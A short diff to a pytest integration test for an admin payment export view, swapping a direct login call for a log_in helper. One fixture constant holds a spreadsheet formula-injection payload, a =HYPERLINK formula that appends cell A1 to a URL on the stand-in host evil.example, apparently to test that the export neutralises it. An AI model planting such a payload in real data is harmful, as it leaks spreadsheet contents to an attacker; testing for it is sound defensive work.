@@ -11,6 +11,8 @@ from typing import Any
 
 import pytest
 
+from tests.integration.web.logins import log_in
+
 URL = "/admin/domain/payment/export/"
 NASTY_USERNAME = '=HYPERLINK("http://evil.example/?"&A1,"Нажми")'
 DESCRIPTION = 'Подписка "Месяц", оплата\nчерез СБП; 2-я попытка'
@@ -174,5 +176,5 @@ def test_export_needs_the_view_permission_on_payments(payments: dict[str, int]) 
         user = get_user_model().objects.get(username=username)
         user.user_permissions.set(Permission.objects.filter(codename__in=codenames))
         client = Client()
-        assert client.login(username=username, password="correct-horse-battery")
+        assert log_in(client, username, "correct-horse-battery")
         assert client.get(URL, params).status_code == status, username
